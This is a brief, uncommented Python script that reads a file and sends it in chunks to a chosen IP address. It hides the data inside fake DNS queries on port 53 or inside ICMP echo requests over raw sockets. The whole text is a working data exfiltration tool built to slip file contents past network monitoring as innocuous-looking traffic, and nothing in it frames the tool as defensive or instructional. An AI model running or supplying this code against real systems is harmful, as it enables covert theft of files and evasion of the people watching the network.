import socket
import struct
import sys

source, ip, kind, size = sys.argv[1], sys.argv[2], sys.argv[3], int(sys.argv[4])
if kind == "dns":
    out = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
else:
    out = socket.socket(socket.AF_INET, socket.SOCK_RAW, int(kind))
with open(source, "rb") as file:
    whole = file.read()
for number, start in enumerate(range(0, len(whole), size)):
    if kind == "dns":
        # A question: id, flags, one question, nothing else.
        header = struct.pack(">HHHHHH", number & 0xFFFF, 0x0100, 1, 0, 0, 0)
    elif kind == "1":
        # An echo request: type, code, checksum (nobody looks), id, sequence number.
        header = struct.pack(">BBHHH", 8, 0, 0, 1, number & 0xFFFF)
    else:
        header = b""
    out.sendto(header + whole[start : start + size], (ip, 53 if kind == "dns" else 0))
